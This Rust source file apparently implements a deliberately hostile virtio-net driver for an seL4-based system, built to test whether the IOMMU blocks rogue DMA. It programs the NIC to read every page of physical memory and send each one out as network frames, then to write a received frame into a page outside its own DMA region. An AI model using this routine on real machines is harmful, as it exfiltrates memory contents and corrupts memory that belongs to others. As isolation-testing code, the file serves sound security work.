//! A hostile driver's DMA: it tells the NIC to read and to write memory that is not the
//! driver's. The NIC obeys; the IOMMU has to stop it.
//!
//! A minimal driver (virtio 1.2 §4.1, §5.1), without any checks.

use core::sync::atomic::{Ordering, fence};

use ipc::boot::{DEVICE_MAGIC, DeviceSnapshot, PAGE};
use sel4::log;

/// The machine's memory; the first megabyte is the firmware's.
const MEMORY: core::ops::Range<u64> = 0x10_0000..0x800_0000;
/// Bytes of each page that are sent.
const SENT: u32 = 1400;
/// Frames that are sent at once.
const BATCH: u16 = 64;
/// Descriptors of a queue.
const QUEUE: u16 = 256;
const RECEIVE: u16 = 0;
const SEND: u16 = 1;
/// Looks at a queue before it counts as dead.
const LOOKS: u32 = 50_000_000;

// The NIC's memory, by page.
const SEND_QUEUE: u64 = 0;
const RECEIVE_QUEUE: u64 = 3;
const HEADER: u64 = 6;
const REQUEST: u64 = 7;

/// Bytes of the header before a frame (virtio 1.2 §5.1.6).
const HEADER_BYTES: u32 = 12;

/// Registers of the common configuration (virtio 1.2 §4.1.4.3).
mod common {
    pub(super) const DEVICE_FEATURE_SELECT: u64 = 0x00;
    pub(super) const DEVICE_FEATURE: u64 = 0x04;
    pub(super) const DRIVER_FEATURE_SELECT: u64 = 0x08;
    pub(super) const DRIVER_FEATURE: u64 = 0x0c;
    pub(super) const STATUS: u64 = 0x14;
    pub(super) const QUEUE_SELECT: u64 = 0x16;
    pub(super) const QUEUE_SIZE: u64 = 0x18;
    pub(super) const QUEUE_ENABLE: u64 = 0x1c;
    pub(super) const QUEUE_NOTIFY: u64 = 0x1e;
    pub(super) const QUEUE_PLACES: u64 = 0x20;
}

/// Steps of the NIC's start (virtio 1.2 §2.1).
const ACKNOWLEDGED: u8 = 1 | 2;
const FEATURES_OK: u8 = 8;
const DRIVER_OK: u8 = 4;
/// Version 1, and what the NIC says of its IOMMU, in the upper half.
const FEATURES: u32 = 0b11;

/// Makes the NIC read all memory, and write one foreign page. What comes of it
/// is seen from outside: in the frames, and in the machine's memory.
pub(crate) fn attack(snapshot: u64) {
    // SAFETY: the root task has filled that page and mapped it for good.
    let snapshot = unsafe { &*(snapshot as *const DeviceSnapshot) };
    let Some(nic) = Nic::find(snapshot) else {
        log!("hostile: no NIC");
        return;
    };
    if !nic.start() {
        log!("hostile: the NIC does not start");
        return;
    }
    let sent = nic.send_memory();
    log!("hostile: the NIC sent {sent} foreign pages");
    let target = snapshot.dma_physical + snapshot.dma_bytes;
    let answered = nic.receive_to(target);
    log!(
        "hostile: the NIC reports {} at {target:#x}",
        if answered { "an answer" } else { "nothing" }
    );
    nic.reset();
}

/// The NIC, and what of its memory is in use.
struct Nic<'a> {
    snapshot: &'a DeviceSnapshot,
    /// Address of its common configuration.
    common: u64,
    /// Address of its doorbells, and the distance between two.
    notify: (u64, u64),
}

impl<'a> Nic<'a> {
    fn find(snapshot: &'a DeviceSnapshot) -> Option<Self> {
        if snapshot.magic != DEVICE_MAGIC {
            return None;
        }
        let (common, _) = capability(snapshot, 1)?;
        let (notify, at) = capability(snapshot, 2)?;
        let distance = u64::from(word(snapshot, at + 16)?);
        Some(Self {
            snapshot,
            common,
            notify: (notify, distance),
        })
    }

    fn start(&self) -> bool {
        self.reset();
        self.set(common::STATUS, ACKNOWLEDGED);
        self.set(common::DRIVER_FEATURE_SELECT, 0_u32);
        self.set(common::DRIVER_FEATURE, 0_u32);
        self.set(common::DEVICE_FEATURE_SELECT, 1_u32);
        let offered: u32 = self.read(common::DEVICE_FEATURE);
        self.set(common::DRIVER_FEATURE_SELECT, 1_u32);
        self.set(common::DRIVER_FEATURE, offered & FEATURES);
        self.set(common::STATUS, ACKNOWLEDGED | FEATURES_OK);
        if self.read::<u8>(common::STATUS) & FEATURES_OK == 0 {
            return false;
        }
        for (queue, page) in [(RECEIVE, RECEIVE_QUEUE), (SEND, SEND_QUEUE)] {
            self.set(common::QUEUE_SELECT, queue);
            self.set(common::QUEUE_SIZE, QUEUE);
            for part in 0..3 {
                let place = self.physical(page + part);
                let register = common::QUEUE_PLACES + part * 8;
                self.set(register, place as u32);
                self.set(register + 4, (place >> 32) as u32);
                self.clear(page + part);
            }
            self.set(common::QUEUE_ENABLE, 1_u16);
        }
        self.clear(HEADER);
        self.set(common::STATUS, ACKNOWLEDGED | FEATURES_OK | DRIVER_OK);
        true
    }

    fn reset(&self) {
        self.set(common::STATUS, 0_u8);
        while self.read::<u8>(common::STATUS) != 0 {}
    }

    /// Sends the beginning of each page of memory as a frame; how many.
    fn send_memory(&self) -> u64 {
        let mut sent = 0;
        let pages = MEMORY.step_by(PAGE as usize);
        let mut targets = pages.peekable();
        while targets.peek().is_some() {
            let mut count = 0;
            for target in targets.by_ref().take(usize::from(BATCH)) {
                let first = count * 2;
                self.describe(SEND_QUEUE, first, self.physical(HEADER), HEADER_BYTES, 1);
                self.describe(SEND_QUEUE, first + 1, target, SENT, 0);
                self.offer(SEND_QUEUE, first);
                count += 1;
            }
            self.ring(SEND);
            if !self.wait(SEND_QUEUE) {
                break;
            }
            sent += u64::from(count);
        }
        sent
    }

    /// Has the next frame written to `target`, and asks the network for one.
    fn receive_to(&self, target: u64) -> bool {
        const WRITABLE: u16 = 2;
        self.describe(RECEIVE_QUEUE, 0, target, 2048, WRITABLE);
        self.offer(RECEIVE_QUEUE, 0);
        self.ring(RECEIVE);
        self.clear(REQUEST);
        for (index, byte) in REQUEST_FRAME.iter().enumerate() {
            let at = u64::from(HEADER_BYTES) + index as u64;
            self.store(REQUEST, at, *byte);
        }
        let length = HEADER_BYTES + REQUEST_FRAME.len() as u32;
        self.describe(SEND_QUEUE, 0, self.physical(REQUEST), length, 0);
        self.offer(SEND_QUEUE, 0);
        self.ring(SEND);
        self.wait(SEND_QUEUE) && self.wait(RECEIVE_QUEUE)
    }

    // ---- queues (virtio 1.2 §2.7) ----

    fn describe(&self, queue: u64, index: u16, target: u64, length: u32, flags: u16) {
        let at = u64::from(index) * 16;
        self.store(queue, at, target);
        self.store(queue, at + 8, length);
        self.store(queue, at + 12, flags);
        self.store(queue, at + 14, index + 1);
    }

    fn offer(&self, queue: u64, descriptor: u16) {
        let offered: u16 = self.load(queue + 1, 2);
        let at = 4 + u64::from(offered % QUEUE) * 2;
        self.store(queue + 1, at, descriptor);
        fence(Ordering::SeqCst);
        self.store(queue + 1, 2, offered.wrapping_add(1));
    }

    /// Whether the NIC has used all that it was offered.
    fn wait(&self, queue: u64) -> bool {
        (0..LOOKS).any(|_| {
            let (offered, used): (u16, u16) = (self.load(queue + 1, 2), self.load(queue + 2, 2));
            offered == used
        })
    }

    fn ring(&self, queue: u16) {
        fence(Ordering::SeqCst);
        self.set(common::QUEUE_SELECT, queue);
        let offset: u16 = self.read(common::QUEUE_NOTIFY);
        let place = self.notify.0 + u64::from(offset) * self.notify.1;
        // SAFETY: the NIC's doorbells are there.
        unsafe { (place as *mut u16).write_volatile(queue) };
    }

    // ---- memory ----

    fn physical(&self, page: u64) -> u64 {
        self.snapshot.dma_physical + page * PAGE
    }

    fn clear(&self, page: u64) {
        for at in (0..PAGE).step_by(8) {
            self.store(page, at, 0_u64);
        }
    }

    fn store<T>(&self, page: u64, at: u64, value: T) {
        let place = self.snapshot.dma_address + page * PAGE + at;
        // SAFETY: the NIC's memory has more pages than are used here.
        unsafe { (place as *mut T).write_volatile(value) };
    }

    fn load<T: Copy>(&self, page: u64, at: u64) -> T {
        let place = self.snapshot.dma_address + page * PAGE + at;
        // SAFETY: as in `store`.
        unsafe { (place as *const T).read_volatile() }
    }

    fn set<T>(&self, register: u64, value: T) {
        // SAFETY: the root task has mapped the NIC's registers.
        unsafe { ((self.common + register) as *mut T).write_volatile(value) };
    }

    fn read<T: Copy>(&self, register: u64) -> T {
        // SAFETY: as in `set`.
        unsafe { ((self.common + register) as *const T).read_volatile() }
    }
}

/// Who has 10.0.2.2? Asks 10.0.2.15 (RFC 826).
#[rustfmt::skip]
const REQUEST_FRAME: [u8; 60] = [
    0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x52, 0x54, 0, 0x12, 0x34, 0x56, 8, 6,
    0, 1, 8, 0, 6, 4, 0, 1,
    0x52, 0x54, 0, 0x12, 0x34, 0x56, 10, 0, 2, 15,
    0, 0, 0, 0, 0, 0, 10, 0, 2, 2,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];

/// Where the NIC's structure of `kind` is mapped, and its place in the
/// configuration space (virtio 1.2 §4.1.4).
fn capability(snapshot: &DeviceSnapshot, kind: u8) -> Option<(u64, usize)> {
    const VENDOR: u8 = 9;
    let mut at = usize::from(*snapshot.config.get(0x34)?);
    while at != 0 {
        let header = snapshot.config.get(at..at + 5)?;
        if let [VENDOR, _, _, found, bar] = header
            && *found == kind
        {
            let bar = snapshot.bars.get(usize::from(*bar))?;
            let offset = u64::from(word(snapshot, at + 8)?);
            return (bar.address != 0).then_some((bar.address + offset, at));
        }
        at = usize::from(*header.get(1)?);
    }
    None
}

fn word(snapshot: &DeviceSnapshot, at: usize) -> Option<u32> {
    let bytes = snapshot.config.get(at..at + 4)?;
    Some(u32::from_le_bytes(bytes.try_into().ok()?))
}
